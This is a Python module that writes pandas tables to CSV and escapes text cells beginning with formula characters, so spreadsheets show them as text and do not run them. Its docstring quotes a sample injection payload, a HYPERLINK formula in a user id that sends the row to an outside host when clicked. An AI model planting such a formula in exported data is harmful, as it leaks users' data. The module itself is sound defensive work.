"""Tables downloaded as CSV that open in a spreadsheet as the text they hold.

A user id, a stage or a model is the app's text. A spreadsheet runs a cell that starts with
``=``, ``+``, ``-`` or ``@`` as a formula (``=HYPERLINK("https://host/?d="&A2, "open")`` in a
user id sends the row away when clicked). As OWASP advises, such a text cell is written with
a leading ``'``, which spreadsheets read as "text" and do not show; numbers stay numbers.
"""

from __future__ import annotations

from typing import Any

import pandas as pd
from pandas.api.types import is_datetime64_any_dtype, is_numeric_dtype

__all__ = ["to_csv"]

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def to_csv(frame: pd.DataFrame) -> str:
    """``frame`` as CSV (no index), text that a spreadsheet would run kept as text."""
    text_columns = [
        name
        for name in frame.columns
        if not (is_numeric_dtype(frame[name]) or is_datetime64_any_dtype(frame[name]))
    ]
    safe = frame.copy() if text_columns else frame
    for name in text_columns:
        safe[name] = safe[name].map(_as_text)
    return str(safe.to_csv(index=False))


def _as_text(value: Any) -> Any:
    return "'" + value if isinstance(value, str) and value.startswith(_FORMULA_START) else value
